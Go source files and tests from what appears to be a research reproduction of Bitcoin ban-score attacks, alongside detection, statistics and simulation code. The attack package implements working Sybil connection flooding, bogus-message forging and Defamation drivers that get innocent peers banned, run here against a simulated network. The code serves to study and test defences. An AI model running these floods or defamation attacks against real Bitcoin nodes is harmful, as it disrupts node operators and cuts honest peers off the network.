	if res.MessagesSent < 100 {
		t.Errorf("sent %d misbehaving messages, want >= 100", res.MessagesSent)
	}
	if !e.victim.Tracker().IsBanned(core.PeerIDFromAddr(innocent)) {
		t.Fatal("innocent identifier not banned")
	}

	// The real innocent peer now cannot establish a session.
	conn, err := e.fabric.Dial(innocent, e.target)
	if err != nil {
		t.Fatal(err)
	}
	s := NewSession(conn, wire.SimNet)
	if err := s.Handshake(500 * time.Millisecond); err == nil {
		t.Error("banned innocent completed a handshake")
	}
	s.Close()
}

func TestPostConnectionDefamation(t *testing.T) {
	e := newEnv(t, nil)
	const innocent = "10.0.0.88:50001"

	// Arm the eavesdropper BEFORE the innocent connects (same-network
	// promiscuous capture sees the stream from its start).
	defamer := NewPostConnectionDefamer(e.fabric, innocent, e.target, wire.SimNet)
	defer defamer.Close()

	// The innocent peer connects and handshakes normally.
	innocentSession := e.session(t, innocent)
	defer innocentSession.Close()
	waitFor(t, "innocent connected", func() bool {
		in, _ := e.victim.PeerCount()
		return in == 1
	})

	// Algorithm 1: inject spoofed duplicate VERSIONs until the ban.
	res, err := defamer.Run(150, 0)
	if err != nil {
		t.Fatal(err)
	}
	waitFor(t, "innocent banned", func() bool {
		return e.victim.Tracker().IsBanned(core.PeerIDFromAddr(innocent))
	})
	if res.MessagesSent < 100 {
		t.Errorf("injected %d, want >= 100", res.MessagesSent)
	}
	// The innocent's connection was torn down by its own victim.
	waitFor(t, "innocent disconnected", func() bool {
		in, _ := e.victim.PeerCount()
		return in == 0
	})
}

func TestDefamationDefeatedByGoodScoreMode(t *testing.T) {
	e := newEnv(t, func(cfg *node.Config) {
		cfg.TrackerConfig = core.Config{Mode: core.ModeGoodScore}
	})
	// With banning replaced by good-score reputation the Defamation
	// primitive loses its teeth: send 300 duplicate VERSIONs (3× the old
	// threshold) and verify the peer is never banned nor disconnected.
	s := e.session(t, "10.0.0.78:50001")
	defer s.Close()
	for i := 0; i < 300; i++ {
		if err := s.Send(s.Version()); err != nil {
			t.Fatalf("send %d failed: %v (peer should never be banned)", i, err)
		}
	}
	if e.victim.Tracker().IsBanned(core.PeerIDFromAddr("10.0.0.78:50001")) {
		t.Error("good-score mode banned a peer")
	}
}

func TestForgeMessagesTriggerIntendedRules(t *testing.T) {
	forge := NewForge(blockchain.SimNetParams())
	tests := []struct {
		name string
		msg  wire.Message
		want core.RuleID
	}{
		{"oversize addr", forge.OversizeAddr(), core.AddrOversize},
		{"oversize inv", forge.OversizeInv(), core.InvOversize},
		{"oversize getdata", forge.OversizeGetData(), core.GetDataOversize},
		{"oversize headers", forge.OversizeHeaders(), core.HeadersOversize},
		{"non-continuous headers", forge.NonContinuousHeaders(), core.HeadersNonContinuous},
		{"oversize filterload", forge.OversizeFilterLoad(), core.FilterLoadOversize},
		{"oversize filteradd", forge.OversizeFilterAdd(), core.FilterAddOversize},
		{"invalid segwit tx", forge.InvalidSegWitTx(), core.TxInvalidSegWit},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t, nil)
			s := e.session(t, "10.0.0.66:50001")
			defer s.Close()
			if err := s.Send(tt.msg); err != nil {
				t.Fatal(err)
			}
			rule, _ := core.LookupRule(tt.want)
			score, _ := rule.ScoreIn(core.V0_20_0)
			waitFor(t, "rule fires", func() bool {
				tr := e.victim.Tracker()
				id := core.PeerIDFromAddr("10.0.0.66:50001")
				if score >= 100 {
					return tr.IsBanned(id)
				}
				return tr.Score(id) == score
			})
		})
	}
}

func TestForgeSegWitTxActuallyInvalid(t *testing.T) {
	forge := NewForge(blockchain.SimNetParams())
	if err := mempool.CheckSegWitRules(forge.InvalidSegWitTx()); err == nil {
		t.Error("forged segwit tx passes the rules")
	}
	if err := mempool.CheckSegWitRules(forge.ValidTx()); err != nil {
		t.Errorf("valid tx fails segwit rules: %v", err)
	}
}

func TestForgeBogusBlockFailsHardNetPoW(t *testing.T) {
	params := blockchain.HardNetParams()
	forge := NewForge(params)
	block := forge.BogusBlock(1)
	hash := block.BlockHash()
	if err := blockchain.CheckProofOfWork(&hash, block.Header.Bits, params.PowLimit); err == nil {
		t.Error("bogus block satisfies hardnet PoW (astronomically unlikely)")
	}
}

func TestFullIPDefamationEstimateMatchesPaper(t *testing.T) {
	// Paper: 16384 · (0.1 + 0.2) s ≈ 81.92 minutes.
	got := FullIPDefamationEstimate(100*time.Millisecond, 200*time.Millisecond)
	want := time.Duration(16384) * 300 * time.Millisecond
	if got != want {
		t.Errorf("estimate = %v, want %v", got, want)
	}
	if mins := got.Minutes(); mins < 81.9 || mins > 82.0 {
		t.Errorf("estimate = %.2f min, want ≈ 81.92", mins)
	}
	if EphemeralPortCount != 16384 {
		t.Errorf("ephemeral port count = %d", EphemeralPortCount)
	}
}

func TestFloodDurationBudget(t *testing.T) {
	e := newEnv(t, nil)
	s := e.session(t, "10.0.0.66:50001")
	defer s.Close()
	forge := NewForge(blockchain.SimNetParams())
	res := Flood(s, func() wire.Message { return forge.Ping() },
		FloodOptions{Duration: 30 * time.Millisecond, Delay: time.Millisecond})
	if res.Err != nil {
		t.Fatalf("flood err: %v", res.Err)
	}
	if res.Sent == 0 || res.Sent > 100 {
		t.Errorf("sent = %d over 30ms at 1ms delay", res.Sent)
	}
}

func TestFloodStopChannel(t *testing.T) {
	e := newEnv(t, nil)
	s := e.session(t, "10.0.0.66:50001")
	defer s.Close()
	forge := NewForge(blockchain.SimNetParams())
	stop := make(chan struct{})
	done := make(chan FloodResult, 1)
	go func() {
		done <- Flood(s, func() wire.Message { return forge.Ping() },
			FloodOptions{Delay: time.Millisecond, Stop: stop})
	}()
	time.Sleep(20 * time.Millisecond)
	close(stop)
	select {
	case res := <-done:
		if res.Sent == 0 {
			t.Error("nothing sent before stop")
		}
	case <-time.After(2 * time.Second):
		t.Fatal("flood did not stop")
	}
}

func TestSybilExhaustion(t *testing.T) {
	e := newEnv(t, nil)
	mgr := NewSybilManager("10.0.0.66", e.target, wire.SimNet, e.dialer())
	mgr.nextPort = EphemeralPortEnd + 1 // simulate exhaustion
	if _, err := mgr.NextSession(time.Second); err == nil {
		t.Error("exhausted manager minted a session")
	}
}
