package attack

import (
	"fmt"
	"net"
	"sync"
	"time"

	"banscore/internal/wire"
)

// Dialer opens a connection from a chosen source identifier to the target —
// simnet provides this directly; on real networks the OS assigns ephemeral
// ports, which is equivalent for serial Sybil.
type Dialer func(from, to string) (net.Conn, error)

// EphemeralPortStart / EphemeralPortEnd delimit the dynamic port range the
// paper's full-IP Defamation estimate uses: 65536 - 49152 = 16384 ports.
const (
	EphemeralPortStart = 49152
	EphemeralPortEnd   = 65535
	EphemeralPortCount = EphemeralPortEnd - EphemeralPortStart + 1
)

// SybilManager mints fresh connection identifiers for one attacker IP. In
// the permissionless network one entity can hold arbitrarily many
// identifiers — the property that defeats [IP:Port]-granular banning.
type SybilManager struct {
	ip     string
	target string
	magic  wire.BitcoinNet
	dial   Dialer

	mu       sync.Mutex
	nextPort int
	used     int
}

// NewSybilManager returns a manager minting identifiers ip:49152..65535.
func NewSybilManager(ip, target string, magic wire.BitcoinNet, dial Dialer) *SybilManager {
	return &SybilManager{
		ip:       ip,
		target:   target,
		magic:    magic,
		dial:     dial,
		nextPort: EphemeralPortStart,
	}
}

// IdentifiersUsed returns how many identifiers have been minted.
func (m *SybilManager) IdentifiersUsed() int {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.used
}

// NextSession connects with a fresh [IP:Port] identifier and completes the
// version handshake.
func (m *SybilManager) NextSession(handshakeTimeout time.Duration) (*Session, error) {
	m.mu.Lock()
	if m.nextPort > EphemeralPortEnd {
		m.mu.Unlock()
		return nil, fmt.Errorf("attack: ephemeral identifier space exhausted (%d ports)", EphemeralPortCount)
	}
	from := fmt.Sprintf("%s:%d", m.ip, m.nextPort)
	m.nextPort++
	m.used++
	m.mu.Unlock()

	conn, err := m.dial(from, m.target)
	if err != nil {
		return nil, fmt.Errorf("sybil dial %s: %w", from, err)
	}
	s := NewSession(conn, m.magic)
	if err := s.Handshake(handshakeTimeout); err != nil {
		s.Close()
		return nil, err
	}
	return s, nil
}

// SerialResult describes one identifier's run in a serial Sybil attack.
type SerialResult struct {
	Identifier string
	// MessagesSent before the victim cut the connection.
	MessagesSent uint64
	// TimeToBan from first attack message to connection loss.
	TimeToBan time.Duration
	// ConnectLatency of establishing the session (the ~0.2 s handshake
	// overhead the paper measures).
	ConnectLatency time.Duration
}

// RunSerial performs the paper's serial Sybil loop: connect with a fresh
// identifier, flood attack messages until banned (connection drop), then
// move to the next identifier. next produces each attack message; delay is
// the inter-message delay (Fig. 8 compares 0 vs 1 ms).
func (m *SybilManager) RunSerial(identifiers int, next func() wire.Message, delay time.Duration) ([]SerialResult, error) {
	results := make([]SerialResult, 0, identifiers)
	for i := 0; i < identifiers; i++ {
		connStart := clk.Now()
		s, err := m.NextSession(5 * time.Second)
		if err != nil {
			return results, err
		}
		connectLatency := clk.Since(connStart)

		attackStart := clk.Now()
		var sent uint64
		for {
			if err := s.Send(next()); err != nil {
				break // banned and disconnected
			}
			sent++
			if delay > 0 {
				clk.Sleep(delay)
			}
		}
		results = append(results, SerialResult{
			Identifier:     s.LocalAddr(),
			MessagesSent:   sent,
			TimeToBan:      clk.Since(attackStart),
			ConnectLatency: connectLatency,
		})
		s.Close()
	}
	return results, nil
}

// RunParallel opens n concurrent Sybil sessions and runs attack on each —
// the Fig. 6 "10 sockets / 20 sockets" configuration. It blocks until every
// session's attack function returns.
func (m *SybilManager) RunParallel(n int, attackFn func(*Session)) error {
	sessions := make([]*Session, 0, n)
	for i := 0; i < n; i++ {
		s, err := m.NextSession(5 * time.Second)
		if err != nil {
			for _, open := range sessions {
				open.Close()
			}
			return err
		}
		sessions = append(sessions, s)
	}
	var wg sync.WaitGroup
	for _, s := range sessions {
		s := s
		spawn(&wg, func() {
			defer s.Close()
			attackFn(s)
		})
	}
	wg.Wait()
	return nil
}

// FullIPDefamationEstimate computes the paper's §VI-D estimate: the time to
// preemptively defame every ephemeral port of one IP address, given the
// measured per-identifier time-to-ban and reconnection latency. With the
// paper's 0.1 s ban + 0.2 s reconnect this is 16384·0.3/60 ≈ 81.92 minutes.
func FullIPDefamationEstimate(timeToBan, reconnectLatency time.Duration) time.Duration {
	return time.Duration(EphemeralPortCount) * (timeToBan + reconnectLatency)
}
