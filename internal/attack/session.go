// Package attack implements the paper's attacker toolkit: a light Bitcoin
// session client (the attacker "is not necessary to be a full Bitcoin
// node"), bogus-message forging, BM-DoS flooding, serial and parallel Sybil
// connection management, and the pre-/post-connection Defamation drivers.
package attack

import (
	"errors"
	"fmt"
	"net"
	"time"

	"banscore/internal/chainhash"
	"banscore/internal/wire"
)

// ErrHandshakeFailed is returned when the victim does not complete the
// version handshake.
var ErrHandshakeFailed = errors.New("attack: version handshake failed")

// Session is a minimal Bitcoin application-layer session over any net.Conn,
// corresponding to the python-bitcoinlib client of the paper's prototype.
type Session struct {
	conn net.Conn
	net  wire.BitcoinNet

	sent     uint64
	received uint64
}

// NewSession wraps an established connection.
func NewSession(conn net.Conn, magic wire.BitcoinNet) *Session {
	return &Session{conn: conn, net: magic}
}

// Conn exposes the underlying connection.
func (s *Session) Conn() net.Conn { return s.conn }

// LocalAddr returns the session's local identifier.
func (s *Session) LocalAddr() string { return s.conn.LocalAddr().String() }

// Handshake performs the client half of the version handshake: send
// VERSION, collect the victim's VERSION and VERACK, reply VERACK.
func (s *Session) Handshake(timeout time.Duration) error {
	if err := s.Send(s.versionMsg()); err != nil {
		return fmt.Errorf("%w: send version: %v", ErrHandshakeFailed, err)
	}
	deadline := clk.Now().Add(timeout)
	sawVersion, sawVerack := false, false
	for !sawVersion || !sawVerack {
		msg, err := s.Recv(clk.Until(deadline))
		if err != nil {
			return fmt.Errorf("%w: %v", ErrHandshakeFailed, err)
		}
		switch msg.(type) {
		case *wire.MsgVersion:
			sawVersion = true
		case *wire.MsgVerAck:
			sawVerack = true
		}
	}
	if err := s.Send(&wire.MsgVerAck{}); err != nil {
		return fmt.Errorf("%w: send verack: %v", ErrHandshakeFailed, err)
	}
	return nil
}

// versionMsg builds the session's VERSION message.
func (s *Session) versionMsg() *wire.MsgVersion {
	me := wire.NewNetAddressIPPort(net.IPv4zero, 0, wire.SFNodeNetwork)
	you := wire.NewNetAddressIPPort(net.IPv4zero, 0, 0)
	nonce := uint64(time.Now().UnixNano()) //lint:allow wallclock(the VERSION nonce is an entropy source, not a schedule: it must differ across real runs and has no deterministic replay meaning)
	return wire.NewMsgVersion(me, you, nonce, 0)
}

// Version exposes a fresh VERSION message (the Defamation attack resends
// these to accumulate "Duplicate VERSION" points).
func (s *Session) Version() *wire.MsgVersion { return s.versionMsg() }

// Send frames and writes a message with a correct checksum.
func (s *Session) Send(msg wire.Message) error {
	if _, err := wire.WriteMessage(s.conn, msg, wire.ProtocolVersion, s.net); err != nil {
		return err
	}
	s.sent++
	return nil
}

// SendRaw frames an arbitrary payload with a correct checksum.
func (s *Session) SendRaw(command string, payload []byte) error {
	if _, err := wire.WriteRawMessage(s.conn, command, payload, s.net); err != nil {
		return err
	}
	s.sent++
	return nil
}

// SendBogusChecksum frames a payload with a deliberately wrong checksum —
// the transport drops it before misbehavior tracking (BM-DoS vector 2).
func (s *Session) SendBogusChecksum(command string, payload []byte) error {
	return s.sendRawChecksum(command, payload, bogusChecksumFor(payload))
}

// bogusChecksumFor returns a checksum guaranteed wrong for the payload.
func bogusChecksumFor(payload []byte) [4]byte {
	checksum := [4]byte{0xde, 0xad, 0xbe, 0xef}
	var correct [4]byte
	copy(correct[:], chainhash.DoubleHashB(payload)[:4])
	if checksum == correct {
		checksum[0] ^= 0xff
	}
	return checksum
}

// sendRawChecksum frames a payload under a caller-supplied checksum.
func (s *Session) sendRawChecksum(command string, payload []byte, checksum [4]byte) error {
	if _, err := wire.WriteRawMessageChecksum(s.conn, command, payload, s.net, checksum); err != nil {
		return err
	}
	s.sent++
	return nil
}

// Recv reads the next message with the given timeout.
func (s *Session) Recv(timeout time.Duration) (wire.Message, error) {
	if err := s.conn.SetReadDeadline(time.Now().Add(timeout)); err != nil { //lint:allow wallclock(net.Conn deadlines are compared against the OS clock by the runtime poller; a virtual timestamp here would be meaningless)
		return nil, err
	}
	msg, _, err := wire.ReadMessage(s.conn, wire.ProtocolVersion, s.net)
	if err != nil {
		return nil, err
	}
	s.received++
	return msg, nil
}

// Sent returns the number of messages written.
func (s *Session) Sent() uint64 { return s.sent }

// Close terminates the session.
func (s *Session) Close() error { return s.conn.Close() }
