package stats

import (
	"math"
	"testing"
	"testing/quick"
	"time"
)

func almostEqual(a, b, eps float64) bool { return math.Abs(a-b) <= eps }

func TestMean(t *testing.T) {
	tests := []struct {
		name string
		in   []float64
		want float64
	}{
		{"empty", nil, 0},
		{"single", []float64{5}, 5},
		{"several", []float64{1, 2, 3, 4}, 2.5},
		{"negative", []float64{-1, 1}, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Mean(tt.in); !almostEqual(got, tt.want, 1e-12) {
				t.Errorf("Mean = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestStdDev(t *testing.T) {
	if got := StdDev([]float64{2, 4, 4, 4, 5, 5, 7, 9}); !almostEqual(got, 2.138, 1e-3) {
		t.Errorf("StdDev = %v, want ~2.138", got)
	}
	if StdDev(nil) != 0 || StdDev([]float64{1}) != 0 {
		t.Error("StdDev of <2 samples should be 0")
	}
}

func TestCI95(t *testing.T) {
	xs := make([]float64, 100)
	for i := range xs {
		xs[i] = float64(i % 2) // sd ≈ 0.5025
	}
	ci := CI95(xs)
	if !almostEqual(ci, 1.96*StdDev(xs)/10, 1e-12) {
		t.Errorf("CI95 = %v", ci)
	}
	if CI95([]float64{1}) != 0 {
		t.Error("CI95 of 1 sample should be 0")
	}
}

func TestMinMax(t *testing.T) {
	xs := []float64{3, -1, 7, 2}
	if Min(xs) != -1 || Max(xs) != 7 {
		t.Errorf("Min/Max = %v/%v", Min(xs), Max(xs))
	}
	if Min(nil) != 0 || Max(nil) != 0 {
		t.Error("empty Min/Max should be 0")
	}
}

func TestPercentile(t *testing.T) {
	xs := []float64{1, 2, 3, 4, 5}
	tests := []struct {
		p    float64
		want float64
	}{{0, 1}, {50, 3}, {100, 5}, {25, 2}, {-5, 1}, {105, 5}}
	for _, tt := range tests {
		if got := Percentile(xs, tt.p); !almostEqual(got, tt.want, 1e-12) {
			t.Errorf("Percentile(%v) = %v, want %v", tt.p, got, tt.want)
		}
	}
	if Percentile(nil, 50) != 0 {
		t.Error("empty percentile should be 0")
	}
}

func TestPearsonCorrelation(t *testing.T) {
	perfect, _ := PearsonCorrelation([]float64{1, 2, 3}, []float64{2, 4, 6})
	if !almostEqual(perfect, 1, 1e-12) {
		t.Errorf("perfect correlation = %v", perfect)
	}
	inverse, _ := PearsonCorrelation([]float64{1, 2, 3}, []float64{3, 2, 1})
	if !almostEqual(inverse, -1, 1e-12) {
		t.Errorf("inverse correlation = %v", inverse)
	}
	constant, _ := PearsonCorrelation([]float64{1, 1, 1}, []float64{1, 2, 3})
	if constant != 0 {
		t.Errorf("constant vector correlation = %v, want 0", constant)
	}
	if _, err := PearsonCorrelation([]float64{1}, []float64{1, 2}); err == nil {
		t.Error("dimension mismatch not reported")
	}
	empty, err := PearsonCorrelation(nil, nil)
	if err != nil || empty != 0 {
		t.Errorf("empty correlation = %v, %v", empty, err)
	}
}

func TestPearsonCorrelationBoundsProperty(t *testing.T) {
	f := func(xs []float64) bool {
		if len(xs) < 2 {
			return true
		}
		ys := make([]float64, len(xs))
		for i, x := range xs {
			if math.IsNaN(x) || math.IsInf(x, 0) || math.Abs(x) > 1e100 {
				return true
			}
			ys[i] = x*3 + 1
		}
		rho, err := PearsonCorrelation(xs, ys)
		if err != nil {
			return false
		}
		// Affine positive transform: rho must be 1 (or 0 for constant xs).
		return almostEqual(rho, 1, 1e-6) || rho == 0
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestNormalize(t *testing.T) {
	got := Normalize([]float64{1, 3})
	if !almostEqual(got[0], 0.25, 1e-12) || !almostEqual(got[1], 0.75, 1e-12) {
		t.Errorf("Normalize = %v", got)
	}
	zero := Normalize([]float64{0, 0})
	if zero[0] != 0 || zero[1] != 0 {
		t.Errorf("Normalize zero = %v", zero)
	}
	// Must not alias input.
	in := []float64{2, 2}
	out := Normalize(in)
	out[0] = 99
	if in[0] == 99 {
		t.Error("Normalize aliases input")
	}
}

func TestSummarize(t *testing.T) {
	s := Summarize([]float64{1, 2, 3})
	if s.N != 3 || !almostEqual(s.Mean, 2, 1e-12) || s.Min != 1 || s.Max != 3 {
		t.Errorf("Summarize = %+v", s)
	}
	if s.String() == "" {
		t.Error("empty summary string")
	}
}

func TestRateWindow(t *testing.T) {
	w := NewRateWindow(10 * time.Minute)
	base := time.Unix(1700000000, 0)
	for i := 0; i < 30; i++ {
		w.Add(base.Add(time.Duration(i) * time.Second))
	}
	now := base.Add(30 * time.Second)
	if got := w.Count(now); got != 30 {
		t.Errorf("Count = %d, want 30", got)
	}
	if got := w.PerMinute(now); !almostEqual(got, 3, 1e-12) {
		t.Errorf("PerMinute = %v, want 3", got)
	}
	// Advance past the window: everything expires.
	later := base.Add(11 * time.Minute)
	if got := w.Count(later); got != 0 {
		t.Errorf("Count after expiry = %d, want 0", got)
	}
}

func TestRateWindowPartialExpiry(t *testing.T) {
	w := NewRateWindow(time.Minute)
	base := time.Unix(1700000000, 0)
	w.Add(base)
	w.Add(base.Add(30 * time.Second))
	w.Add(base.Add(90 * time.Second))
	if got := w.Count(base.Add(90 * time.Second)); got != 2 {
		t.Errorf("Count = %d, want 2 (first event expired)", got)
	}
}

func TestRateWindowReset(t *testing.T) {
	w := NewRateWindow(time.Minute)
	now := time.Unix(1700000000, 0)
	w.Add(now)
	w.Reset()
	if w.Count(now) != 0 {
		t.Error("Reset did not clear events")
	}
	if w.Span() != time.Minute {
		t.Errorf("Span = %v", w.Span())
	}
}
