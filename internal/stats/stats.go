// Package stats provides the small statistical toolkit the paper's
// measurements and detection engine rely on: mean/stddev/95% confidence
// intervals for attack measurements, Pearson correlation for the
// message-count-distribution feature Λ, and rolling rate windows for the
// message-rate feature n and reconnection-rate feature c.
package stats

import (
	"fmt"
	"math"
	"sort"
)

// Mean returns the arithmetic mean of xs, or 0 for an empty slice.
func Mean(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	sum := 0.0
	for _, x := range xs {
		sum += x
	}
	return sum / float64(len(xs))
}

// StdDev returns the sample standard deviation of xs (n-1 denominator), or 0
// for fewer than two samples.
func StdDev(xs []float64) float64 {
	if len(xs) < 2 {
		return 0
	}
	m := Mean(xs)
	sum := 0.0
	for _, x := range xs {
		d := x - m
		sum += d * d
	}
	return math.Sqrt(sum / float64(len(xs)-1))
}

// CI95 returns the half-width of the 95% confidence interval for the mean of
// xs using the normal approximation (z = 1.96), which matches the paper's
// "average values with 95% confidence level" over 100 samples.
func CI95(xs []float64) float64 {
	if len(xs) < 2 {
		return 0
	}
	return 1.96 * StdDev(xs) / math.Sqrt(float64(len(xs)))
}

// Min returns the smallest value of xs, or 0 for an empty slice.
func Min(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	m := xs[0]
	for _, x := range xs[1:] {
		if x < m {
			m = x
		}
	}
	return m
}

// Max returns the largest value of xs, or 0 for an empty slice.
func Max(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	m := xs[0]
	for _, x := range xs[1:] {
		if x > m {
			m = x
		}
	}
	return m
}

// Percentile returns the p-th percentile (0..100) of xs using linear
// interpolation, or 0 for an empty slice.
func Percentile(xs []float64, p float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	sorted := make([]float64, len(xs))
	copy(sorted, xs)
	sort.Float64s(sorted)
	if p <= 0 {
		return sorted[0]
	}
	if p >= 100 {
		return sorted[len(sorted)-1]
	}
	rank := p / 100 * float64(len(sorted)-1)
	lo := int(math.Floor(rank))
	hi := int(math.Ceil(rank))
	if lo == hi {
		return sorted[lo]
	}
	frac := rank - float64(lo)
	return sorted[lo]*(1-frac) + sorted[hi]*frac
}

// ErrDimensionMismatch is returned when paired samples have unequal lengths.
var ErrDimensionMismatch = fmt.Errorf("sample vectors have different lengths")

// PearsonCorrelation returns the correlation coefficient ρ between the two
// equal-length vectors — the paper's distribution-similarity measure Λ. For
// constant vectors (zero variance) it returns 0.
func PearsonCorrelation(xs, ys []float64) (float64, error) {
	if len(xs) != len(ys) {
		return 0, ErrDimensionMismatch
	}
	if len(xs) == 0 {
		return 0, nil
	}
	mx, my := Mean(xs), Mean(ys)
	var sxy, sxx, syy float64
	for i := range xs {
		dx, dy := xs[i]-mx, ys[i]-my
		sxy += dx * dy
		sxx += dx * dx
		syy += dy * dy
	}
	if sxx == 0 || syy == 0 {
		return 0, nil
	}
	return sxy / math.Sqrt(sxx*syy), nil
}

// Normalize returns xs scaled so its entries sum to 1 — the "normalized
// count of messages" of Fig. 10. A zero-sum vector is returned unchanged.
func Normalize(xs []float64) []float64 {
	sum := 0.0
	for _, x := range xs {
		sum += x
	}
	out := make([]float64, len(xs))
	if sum == 0 {
		copy(out, xs)
		return out
	}
	for i, x := range xs {
		out[i] = x / sum
	}
	return out
}

// Summary aggregates a measured sample set.
type Summary struct {
	N      int
	Mean   float64
	StdDev float64
	CI95   float64
	Min    float64
	Max    float64
}

// Summarize computes the Summary of xs.
func Summarize(xs []float64) Summary {
	return Summary{
		N:      len(xs),
		Mean:   Mean(xs),
		StdDev: StdDev(xs),
		CI95:   CI95(xs),
		Min:    Min(xs),
		Max:    Max(xs),
	}
}

// String renders the summary compactly.
func (s Summary) String() string {
	return fmt.Sprintf("n=%d mean=%.3f ±%.3f (95%% CI) sd=%.3f min=%.3f max=%.3f",
		s.N, s.Mean, s.CI95, s.StdDev, s.Min, s.Max)
}
