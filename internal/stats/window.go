package stats

import (
	"sync"
	"time"
)

// RateWindow counts timestamped events inside a sliding time window and
// reports per-minute rates. The detection engine uses one window for the
// overall message rate n and one for the outbound reconnection rate c.
// A RateWindow is safe for concurrent use.
type RateWindow struct {
	mu     sync.Mutex
	span   time.Duration
	events []time.Time
}

// NewRateWindow returns a window covering the given span (e.g. 10 minutes —
// the paper's detection window).
func NewRateWindow(span time.Duration) *RateWindow {
	return &RateWindow{span: span}
}

// Add records an event at the given time.
func (w *RateWindow) Add(at time.Time) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.events = append(w.events, at)
	w.prune(at)
}

// Count returns the number of events within the window ending at now.
func (w *RateWindow) Count(now time.Time) int {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.prune(now)
	return len(w.events)
}

// PerMinute returns the event rate per minute over the window ending at now.
func (w *RateWindow) PerMinute(now time.Time) float64 {
	count := w.Count(now)
	minutes := w.span.Minutes()
	if minutes == 0 {
		return 0
	}
	return float64(count) / minutes
}

// Span returns the window length.
func (w *RateWindow) Span() time.Duration { return w.span }

// Reset discards all recorded events.
func (w *RateWindow) Reset() {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.events = w.events[:0]
}

// prune drops events older than span before now. Caller holds mu.
func (w *RateWindow) prune(now time.Time) {
	cutoff := now.Add(-w.span)
	i := 0
	for i < len(w.events) && w.events[i].Before(cutoff) {
		i++
	}
	if i > 0 {
		w.events = append(w.events[:0], w.events[i:]...)
	}
}
