// Package vclock is the sanctioned wall-clock gateway for the
// determinism-critical packages (internal/simnet, internal/experiments).
//
// Those packages must not read ambient time directly — the banlint
// wallclock analyzer enforces it — because the reproduction's
// reproducibility claims (seeded fault plans that replay identically,
// scheduling-independent chaos scenarios) require every time dependence
// to be injectable. Code in scope declares a Clock (package-level or per
// object), defaults it to System(), and the single place real time enters
// the tree is this file, where every call carries an explicit
// //lint:allow waiver. Swapping the Clock for a test double then makes a
// whole package's timing virtual without touching its logic.
package vclock

import "time"

// Timer is the stoppable handle AfterFunc returns, mirroring *time.Timer
// narrowly enough that a virtual clock can implement it.
type Timer interface {
	// Stop cancels the pending call; it reports whether the call had not
	// yet fired.
	Stop() bool
}

// Clock is the time surface determinism-critical packages consume: the
// reading, sleeping, and scheduling operations of package time, behind an
// injection point.
type Clock interface {
	// Now returns the current time.
	Now() time.Time

	// Since returns the elapsed time since t.
	Since(t time.Time) time.Duration

	// Until returns the duration until t.
	Until(t time.Time) time.Duration

	// Sleep pauses the calling goroutine for d.
	Sleep(d time.Duration)

	// AfterFunc schedules f to run on its own goroutine after d.
	AfterFunc(d time.Duration, f func()) Timer

	// After returns a channel that delivers the current time once d has
	// elapsed — the select-friendly form of Sleep.
	After(d time.Duration) <-chan time.Time
}

// System returns the process wall clock — the one sanctioned crossing
// from virtual to real time.
func System() Clock { return systemClock{} }

// systemClock adapts package time to Clock. Each body is a waived
// wall-clock call: this file IS the boundary the wallclock analyzer
// polices, so the waivers below are the complete audit of where ambient
// time enters the determinism-critical tree.
type systemClock struct{}

func (systemClock) Now() time.Time {
	return time.Now() //lint:allow wallclock(vclock.System is the sanctioned wall-clock gateway)
}

func (systemClock) Since(t time.Time) time.Duration {
	return time.Since(t) //lint:allow wallclock(vclock.System is the sanctioned wall-clock gateway)
}

func (systemClock) Until(t time.Time) time.Duration {
	return time.Until(t) //lint:allow wallclock(vclock.System is the sanctioned wall-clock gateway)
}

func (systemClock) Sleep(d time.Duration) {
	time.Sleep(d) //lint:allow wallclock(vclock.System is the sanctioned wall-clock gateway)
}

func (systemClock) AfterFunc(d time.Duration, f func()) Timer {
	return time.AfterFunc(d, f) //lint:allow wallclock(vclock.System is the sanctioned wall-clock gateway)
}

func (systemClock) After(d time.Duration) <-chan time.Time {
	return time.After(d) //lint:allow wallclock(vclock.System is the sanctioned wall-clock gateway)
}
