// Package chaos assembles full mining clusters on a degraded simnet fabric
// and drives them through fault storms: packet loss, injected connection
// resets, dial failures, and timed partitions. It is the integration
// harness proving the resilience layer end to end — the outbound slot
// keeper refills lost slots, connection deadlines reclaim wedged slots,
// health reporting degrades and recovers, and the ban-score mechanism plus
// detection pipeline stay consistent through the weather.
package chaos

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http/httptest"
	"runtime"
	"sync"
	"time"

	"banscore/internal/banstore"
	"banscore/internal/core"
	"banscore/internal/detect"
	"banscore/internal/miner"
	"banscore/internal/node"
	"banscore/internal/reputation"
	"banscore/internal/simnet"
	"banscore/internal/telemetry"
	"banscore/internal/trace"
	"banscore/internal/wire"
)

// Config parameterizes a Cluster. The zero value selects small, aggressive
// timeouts suited to chaos tests: the point is to exercise recovery, not to
// wait out production-scale deadlines.
type Config struct {
	// HonestPeers is the number of honest remote nodes; zero selects
	// node.DefaultMaxOutbound (8), filling every outbound slot.
	HonestPeers int

	// Window is the detection monitor's aggregation window; zero selects
	// 250ms.
	Window time.Duration

	// HeartbeatEvery is the victim's keep-alive ping interval; zero
	// selects 50ms. Heartbeats keep healthy links inside IdleTimeout and
	// feed the monitor's message-rate feature.
	HeartbeatEvery time.Duration

	// Victim connection-resilience knobs; zeros select chaos-scale
	// defaults (idle 1.2s, handshake 300ms, dial 400ms, write 500ms,
	// backoff 25ms..300ms).
	IdleTimeout         time.Duration
	HandshakeTimeout    time.Duration
	DialTimeout         time.Duration
	WriteTimeout        time.Duration
	ReconnectBackoff    time.Duration
	ReconnectMaxBackoff time.Duration

	// TraceSampleN is the lifecycle tracer's 1-in-N sampling rate; zero
	// selects trace.DefaultSampleN. Chaos forensics tests set 1 so every
	// message through the storm leaves spans.
	TraceSampleN int

	// Reputation, when non-nil, layers the netgroup reputation engine
	// over the victim's tracker so storms can exercise admission gating
	// and collective netgroup bans under fabric faults.
